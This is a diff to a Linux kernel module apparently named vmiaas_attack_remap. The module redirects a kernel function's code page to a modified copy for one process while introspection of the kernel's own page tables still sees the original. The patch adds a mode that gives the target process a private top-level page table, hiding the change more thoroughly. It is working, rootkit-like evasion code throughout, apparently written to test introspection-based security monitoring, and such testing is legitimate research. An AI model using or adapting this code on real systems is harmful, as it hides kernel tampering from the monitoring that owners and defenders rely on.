@@ -22,6 +22,13 @@
  * @pid points its kernel-half entry at them. That process (and whatever
  * the kernel runs on its page tables) executes the copy; a walk of the
  * kernel's init_top_pgt sees the original.
+ *
+ * mode=mm goes one step further: @pid's own top-level table is left
+ * alone too. A private top-level table (a copy of it, user half and, with
+ * PTI, its user copy included) gets the kernel-half entry, and @pid's
+ * mm->pgd is pointed at it; it is not on pgd_list, and switch_mm() loads
+ * it into CR3 only while @pid runs. Unloading points mm->pgd back and
+ * keeps that table (a CPU may still hold it in CR3 lazily).
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
@@ -36,6 +43,7 @@
 #include <linux/sched/task.h>
 #include <linux/smp.h>
 #include <linux/string.h>
+#include <asm/pgalloc.h>
 #include <asm/pgtable.h>
 #include <asm/tlbflush.h>
 
@@ -47,7 +55,7 @@ MODULE_PARM_DESC(target, "kernel function whose text page is remapped");
 
 static char *mode = "pte";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "pte (the kernel's tables, default) or pgd (one process's)");
+MODULE_PARM_DESC(mode, "pte (the kernel's tables, default), pgd (one process's) or mm (a table of its own)");
 
 static int pid;
 module_param(pid, int, 0444);
@@ -66,6 +74,7 @@ static pteval_t *entry;		/* the entry rewritten (PTE or PMD) */
 static pteval_t saved;		/* its value before */
 static struct page *pmd_copy, *pud_copy;	/* mode=pgd */
 static struct mm_struct *mm;			/* mode=pgd: @pid's */
+static pgd_t *mm_saved_pgd;			/* mode=mm: @pid's own table */
 
 typedef long (*syscall_fn_t)(const struct pt_regs *regs);
 
@@ -181,6 +190,27 @@ static int private_pgd(pte_t *pmdp, pteval_t pmdval, pteval_t *ret)
 	return 0;
 }
 
+/*
+ * mode=mm: a copy of @mm's top-level table(s), off pgd_list (its lru
+ * linked to itself, so that pgd_free() can unlink it), made @mm's pgd;
+ * ->entry becomes the slot in the copy.
+ */
+static int private_top(void)
+{
+	unsigned long slot = (unsigned long)entry & ~PAGE_MASK;
+	pgd_t *top = (pgd_t *)__get_free_pages(GFP_KERNEL,
+					       PGD_ALLOCATION_ORDER);
+
+	if (!top)
+		return -ENOMEM;
+	memcpy(top, mm->pgd, PAGE_SIZE << PGD_ALLOCATION_ORDER);
+	INIT_LIST_HEAD(&virt_to_page(top)->lru);
+	entry = (pteval_t *)((char *)top + slot);
+	mm_saved_pgd = mm->pgd;
+	WRITE_ONCE(mm->pgd, top);
+	return 0;
+}
+
 static int __init vmiaas_attack_remap_init(void)
 {
 	static const struct pt_regs regs;	/* acct(NULL), if the copy did not run */
@@ -196,8 +226,8 @@ static int __init vmiaas_attack_remap_init(void)
 		return -ENOENT;
 	if (level != PG_LEVEL_4K && level != PG_LEVEL_2M)
 		return -EOPNOTSUPP;
-	if (strcmp(mode, "pte") && (strcmp(mode, "pgd") || !pid ||
-				    level != PG_LEVEL_2M))
+	if (strcmp(mode, "pte") && ((strcmp(mode, "pgd") && strcmp(mode, "mm")) ||
+				    !pid || level != PG_LEVEL_2M))
 		return -EINVAL;
 	err = make_copy();
 	if (err)
@@ -208,8 +238,10 @@ static int __init vmiaas_attack_remap_init(void)
 		now = PFN_PHYS(page_to_pfn(copy)) | (saved & ~PTE_PFN_MASK);
 	else
 		err = split_pmd(saved, &now);
-	if (!err && !strcmp(mode, "pgd"))
+	if (!err && strcmp(mode, "pte"))
 		err = private_pgd(pte, now, &now);
+	if (!err && !strcmp(mode, "mm"))
+		err = private_top();
 	if (err) {
 		if (table)
 			__free_page(table);
@@ -219,9 +251,10 @@ static int __init vmiaas_attack_remap_init(void)
 	wp_write(entry, &now, sizeof(now));
 	flush_all();
 	if (mm) {
-		pr_info("%pS now runs from frame %#llx in pid %d only\n",
+		pr_info("%pS now runs from frame %#llx in pid %d only%s\n",
 			(void *)target,
-			(unsigned long long)PFN_PHYS(page_to_pfn(copy)), pid);
+			(unsigned long long)PFN_PHYS(page_to_pfn(copy)), pid,
+			mm_saved_pgd ? ", through a top-level table of its own" : "");
 		return 0;
 	}
 	((syscall_fn_t)target)(&regs);
@@ -233,6 +266,8 @@ static int __init vmiaas_attack_remap_init(void)
 
 static void __exit vmiaas_attack_remap_exit(void)
 {
+	if (mm_saved_pgd)
+		WRITE_ONCE(mm->pgd, mm_saved_pgd);
 	wp_write(entry, &saved, sizeof(saved));
 	flush_all();
 	if (mm) {
